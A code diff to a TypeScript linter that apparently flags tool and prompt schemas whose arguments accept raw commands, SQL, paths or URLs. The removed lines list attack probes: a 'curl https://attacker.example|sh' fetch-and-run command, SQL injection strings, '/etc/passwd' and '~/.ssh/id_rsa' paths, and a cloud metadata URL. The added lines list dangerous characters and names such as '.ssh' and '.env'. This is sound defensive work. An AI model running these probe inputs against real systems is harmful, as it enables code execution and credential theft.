@@ -1,5 +1,6 @@
 import { isObject, type Json, type JsonObject } from "../../kernel/json.ts";
 import { type Leaf, leavesOf } from "./leaves.ts";
+import { type Reach, reachOfPattern } from "./pattern-reach.ts";
 import type { SchemaJudge } from "./overlay.ts";
 import { pointerOf } from "./place.ts";
 import type { GuardKind } from "./rules.ts";
@@ -34,31 +35,14 @@ export interface LintFacts {
   readonly schemas: SchemaJudge;
 }
 
-/** What an attacker would try; a schema that refuses all of it has narrowed the argument. */
-const PROBES: Partial<Record<Shape, readonly Json[]>> = {
-  shell: ["id", "ls; id", "$(id)", "curl https://attacker.example|sh", "import os; os.remove('x')", "process.exit()"],
-  sql: ["SELECT * FROM users", "DROP TABLE users", "1 OR 1=1", "MATCH (n) DETACH DELETE n", "SELECT 1"],
-  path: ["/etc/passwd", "../../etc/passwd", "..\\..\\x", "~/.ssh/id_rsa", "C:\\x", "/tmp/x.txt", "/etc"],
-  url: [
-    "http://169.254.169.254/",
-    "http://127.0.0.1/",
-    "file:///etc/passwd",
-    "https://attacker.example/",
-    "https://attacker.example/a.png",
-  ],
-  tenant: [
-    "acme",
-    "1",
-    "42",
-    1,
-    42,
-    "a1b2c3d4",
-    "123456789012",
-    "0f8fad5b-d9cb-469f-a165-70867728950e",
-    "user@example.com",
-    "U0123456789",
-  ],
+/** Characters that may not stand where a pattern leaves a choice; then what the pattern begins with is the author's. */
+const DANGEROUS: Partial<Record<Shape, string>> = {
+  shell: " \t\n\r;&|$`<>(){}[]*?!~#'\"\\%^\u00a0\u2028",
+  sql: " \t\n\r;,'\"`()*/\\=<>|&%#@:+\u00a0\u2028",
+  path: "/\\:~%$\0\n\r\u2028\uff0f",
 };
+/** What a pattern for the name of a file may let through no more. */
+const DOTS = ["..", ".", ".ssh", ".env"];
 
 const WHY: Readonly<Record<Shape, string>> = {
   shell: "takes a raw command or code: whoever writes the argument runs what they like",
@@ -71,9 +55,10 @@ const WHY: Readonly<Record<Shape, string>> = {
   text: "takes text of any length",
   list: "takes a list of any length",
   "open-object": "takes members that nobody named",
+  unreadable: "have a schema that cannot be looked through whole, so that nobody knows what stands open",
 };
 
-const OFF: ReadonlySet<Shape> = new Set(["shell", "sql", "path", "url", "tenant"]);
+const OFF: ReadonlySet<Shape> = new Set(["shell", "sql", "path", "url", "tenant", "unreadable"]);
 /** Open texts are told of so often in one definition. */
 const MOST_TEXTS = 10;
 
@@ -85,12 +70,18 @@ export function lint(definition: JsonObject, facts: LintFacts): Finding[] {
   if (facts.kind === "template") return lintTemplate(definition, facts);
   const schema = facts.kind === "prompt" ? promptSchema(definition) : definition["inputSchema"];
   if (!isObject(schema)) return [];
-  const { root, leaves, open } = leavesOf(schema);
+  const { root, leaves, open, unreadable } = leavesOf(schema);
   const tool: Around = {
     words: wordsOf(String(definition["name"] ?? "")),
     description: typeof definition["description"] === "string" ? definition["description"].slice(0, 4_000) : "",
   };
   const found: Finding[] = [];
+  if (unreadable)
+    found.push(
+      make(facts.kind === "tool" ? "off" : "warn", "unreadable", "", facts, {
+        accept: "ask for a definition with plain references instead",
+      }),
+    );
   for (const leaf of leaves) {
     const finding = judge(leaf, tool, root, facts);
     if (finding !== undefined) found.push(finding);
@@ -112,7 +103,7 @@ function judge(leaf: Leaf, tool: Around, root: JsonObject, facts: LintFacts): Fi
   if (facts.accepted.has(pointer) || isListed(leaf)) return undefined;
   const shape = shapeOf(leaf, tool);
   if (shape === undefined)
-    return isLoose(leaf) && !facts.guards.has(pointer)
+    return isLoose(leaf) && guardOver(pointer, facts) === undefined
       ? make("warn", "text", pointer, facts, { maxLength: 1000 })
       : undefined;
   if (isNarrow(shape, leaf, root, facts)) return undefined;
@@ -123,20 +114,65 @@ function judge(leaf: Leaf, tool: Around, root: JsonObject, facts: LintFacts): Fi
 
 /** Every value is written down. */
 function isListed({ facets }: Leaf): boolean {
-  const lists = (schema: JsonObject): boolean => Array.isArray(schema["enum"]) || schema["const"] !== undefined;
+  const lists = (schema: JsonObject): boolean =>
+    Array.isArray(schema["enum"]) || schema["const"] !== undefined || (ofTexts(schema) ?? schema)["enum"] !== undefined;
   if (facets.sure.some(lists)) return true;
   // One of several alternatives, all of which list their values or take none.
   const others = facets.perhaps.filter((schema) => schema["type"] !== "null" && schema["type"] !== "boolean");
   return others.length > 0 && others.every(lists);
 }
 
-function isNarrow(shape: Shape, { pointer, facets }: Leaf, root: JsonObject, facts: LintFacts): boolean {
-  if (facts.guards.get(pointer) === shape) return true;
-  const probes = PROBES[shape];
-  const [schema] = facets.sure;
-  return (
-    probes !== undefined && schema !== undefined && !probes.some((probe) => facts.schemas.accepts(root, schema, probe))
-  );
+/** What an overlay on the items of a list says of a text that stands in place of the list. */
+function ofTexts(schema: JsonObject): JsonObject | undefined {
+  const { if: when, then } = schema;
+  return isObject(when) && isObject(then) && when["type"] === "string" && Object.keys(when).length === 1
+    ? then
+    : undefined;
+}
+
+/** The guard that judges what stands at a place: its own, one above, or one on the items of what may be a list. */
+function guardOver(pointer: string, { guards }: LintFacts): GuardKind | undefined {
+  for (const [at, kind] of guards)
+    if (at === pointer || pointer.startsWith(`${at}/`) || at === `${pointer}/*`) return kind;
+  return undefined;
+}
+
+/** Guards that make a raw value of this shape harmless. A command of plain words is a command still. */
+const NARROWING: Partial<Record<Shape, GuardKind>> = {
+  sql: "sql",
+  path: "path",
+  url: "url",
+  html: "html",
+  template: "template",
+};
+
+/** By a guard, or by a pattern of which it can be proved that it leaves nothing dangerous to choose. */
+function isNarrow(
+  shape: Shape,
+  { pointer, facets, types, unplaced }: Leaf,
+  root: JsonObject,
+  facts: LintFacts,
+): boolean {
+  const guard = unplaced ? undefined : guardOver(pointer, facts);
+  if (guard !== undefined && guard === NARROWING[shape]) return true;
+  if (types.size === 0 || ![...types].every((type) => TEXTS_AND_MORE.has(type))) return false;
+  const patterns = facets.sure
+    .flatMap((schema) => [schema["pattern"], ofTexts(schema)?.["pattern"]])
+    .filter((pattern) => typeof pattern === "string");
+  return patterns.some((pattern) => proves(shape, reachOfPattern(pattern), pattern, root, facts));
+}
+
+/** Lists are judged by their items. */
+const TEXTS_AND_MORE = new Set(["string", "null", "boolean", "integer", "number", "array"]);
+
+function proves(shape: Shape, reach: Reach | undefined, pattern: string, root: JsonObject, facts: LintFacts): boolean {
+  if (reach === undefined || !reach.start) return false;
+  if (shape === "url") return /^https?:\/\/[a-z0-9.-]+(?::\d+)?\//i.test(reach.prefix);
+  const dangerous = DANGEROUS[shape];
+  if (dangerous === undefined || !reach.end || [...dangerous].some(reach.free)) return false;
+  if (shape !== "path") return reach.prefix !== "";
+  const takes = (text: string): boolean => facts.schemas.accepts(root, { pattern }, reach.prefix + text);
+  return !DOTS.some(takes);
 }
 
 function isLoose({ types, facets }: Leaf): boolean {
@@ -225,7 +261,7 @@ function lintTemplate(definition: JsonObject, facts: LintFacts): Finding[] {
   if (variable === undefined) return [];
   const shape = /^file:/i.test(template) ? "path" : /^https?:\/\/\{/i.test(template) ? "url" : undefined;
   const pointer = pointerOf([variable]);
-  if (shape === undefined || facts.guards.has(pointer) || facts.accepted.has(pointer)) return [];
+  if (shape === undefined || guardOver(pointer, facts) !== undefined || facts.accepted.has(pointer)) return [];
   const confined = shape === "path" ? facts.confined.files : facts.confined.network;
   return [make("warn", shape, pointer, facts, REMEDY[shape], confined)];
 }
